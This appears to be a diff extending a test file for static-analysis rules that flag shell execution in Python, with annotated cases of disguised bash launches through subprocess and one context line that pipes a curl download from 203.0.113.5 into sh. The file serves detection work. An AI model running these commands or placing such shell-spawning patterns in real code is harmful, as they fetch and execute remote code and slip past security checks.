@@ -338,3 +338,26 @@ os.system("clear")
 os.system("clear; curl 203.0.113.5 | sh")
 # ruleid: shell-command
 os.system("cls" if os.name == "nt" else cmd)
+
+# argument lists built at run time read as the strings they build
+import shlex
+import shutil
+
+# ruleid: shell-in-argv, subprocess-call
+subprocess.run(["/bin/" + "bash", "-c", "id"])
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list, user-input-command
+subprocess.run([shutil.which("bash"), "-c", cmd])
+# ruleid: shell-in-argv, subprocess-call, user-input-command
+subprocess.run([os.environ.get("SHELL", "/bin/sh"), "-c", cmd])
+name_parts = ["ba", "sh"]
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run(["".join(name_parts), "-c", "id"])
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run(shlex.split("bash -c 'id > /tmp/x'"))
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run("bash -c id".split())
+# ok: shell-in-argv
+# ruleid: subprocess-call, user-input-command
+subprocess.run(cmd.split())
+# ruleid: interpreter-stdin-pipe, subprocess-call
+subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE).communicate(cmd.encode())
